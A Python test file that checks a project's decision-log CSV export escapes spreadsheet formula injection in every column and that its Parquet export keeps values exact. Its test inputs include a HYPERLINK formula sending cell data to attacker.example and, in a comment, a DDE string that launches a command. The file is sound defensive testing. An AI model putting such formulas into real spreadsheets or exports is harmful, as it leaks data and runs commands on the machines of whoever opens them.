"""Decision exports (console and ``shopguard audit decisions --out``): a CSV cell never runs
as a spreadsheet formula, in any column; Parquet keeps every value exact."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pyarrow.parquet as pq

from common.settings import load_settings
from database.engine import make_engine
from serving.decision_export import export_decisions
from serving.decision_log import decision_log_table
from tests.conftest import run_cli

FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+1+1", "-1+1", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "|calc", "%0A=1"]
PLAIN = ["L-1", "-1.5", "商品A"]


def _rows() -> list[dict]:
    return [{"request_id": f"=req{i}", "at": datetime(2026, 12, 1, tzinfo=UTC), "entity_type": "listing",
             "entity_id": entity_id, "decision": "review", "score": 0.5, "model": "+listing-quality:v1",
             "record_id": f"@rec{i}", "reasons": [{"code": "=code", "detail": "-detail"}], "inputs": {"title": "x"}}
            for i, entity_id in enumerate(FORMULAS + PLAIN)]


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_no_csv_cell_starts_a_formula_and_parquet_keeps_values_exact(isolated_home) -> None:
    engine = make_engine(load_settings().database_url)
    with engine.begin() as conn:
        conn.execute(decision_log_table.insert(), _rows())
    rows = _cells(b"".join(export_decisions(engine, "csv")))
    # defusedcsv also escapes a pipe in a cell it neutralizes (DDE: =cmd|' /C calc'!A0)
    assert [r["entity_id"] for r in rows] == ["'" + f.replace("|", "\\|") for f in FORMULAS] + PLAIN
    for row in rows:
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r|%" or cell == "-1.5", (column, cell)
    assert rows[0]["request_id"] == "'=req0" and rows[0]["model"] == "'+listing-quality:v1"
    assert rows[0]["reason_codes"] == "'=code" and rows[0]["record_id"] == "'@rec0"
    exact = pq.read_table(io.BytesIO(b"".join(export_decisions(engine, "parquet")))).column("entity_id").to_pylist()
    assert exact == FORMULAS + PLAIN


def test_the_cli_export_is_neutralized_too(isolated_home, tmp_path) -> None:
    engine = make_engine(load_settings().database_url)
    with engine.begin() as conn:
        conn.execute(decision_log_table.insert(), _rows()[:2])
    out = tmp_path / "decisions.csv"
    run_cli("audit", "decisions", "--out", str(out), home=isolated_home)
    assert [r["entity_id"] for r in _cells(out.read_bytes())] == ["'" + f for f in FORMULAS[:2]]
